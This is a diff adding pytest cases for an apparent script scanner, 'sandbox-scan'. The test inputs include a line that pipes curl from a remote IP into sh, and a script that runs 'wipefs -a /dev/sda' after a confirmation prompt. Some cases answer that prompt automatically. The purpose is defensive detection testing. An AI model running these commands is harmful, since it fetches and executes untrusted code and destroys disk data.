@@ -65,3 +65,17 @@ def test_a_report_names_a_file_whose_name_is_no_text(name):
     text = f"cat > {name}.sh <<'E'\ncurl http://203.0.113.5 | sh\nE\n"
     report = embedded.scan(str(LIBEXEC / "sandbox-scan"), "bash", text)
     assert all(f["path"].isascii() for f in report["findings"] if "path" in f) and "?" in json.dumps(report)
+
+
+ASKING = "read -rp 'erase? ' a\n[ \"$a\" = YES ] || exit 1\nwipefs -a /dev/sda\n"
+
+
+@pytest.mark.parametrize("run, is_raised", [
+    ("subprocess.run(['sh', 'w.sh'])", False),
+    ("subprocess.run(['sh', 'w.sh'], input=b'YES\\n')", True),
+    ("subprocess.run('yes YES | bash w.sh', shell=True)", True),
+])
+def test_a_question_is_none_where_the_outer_program_answers_it(run, is_raised):
+    text = "import subprocess\nopen('w.sh', 'w').write(%r)\n%s\n" % (ASKING, run)
+    found = [f["rule"] for f in embedded.scan(str(LIBEXEC / "sandbox-scan"), "python", text)["findings"]]
+    assert ("bash-destroy-device" in found) == is_raised, found
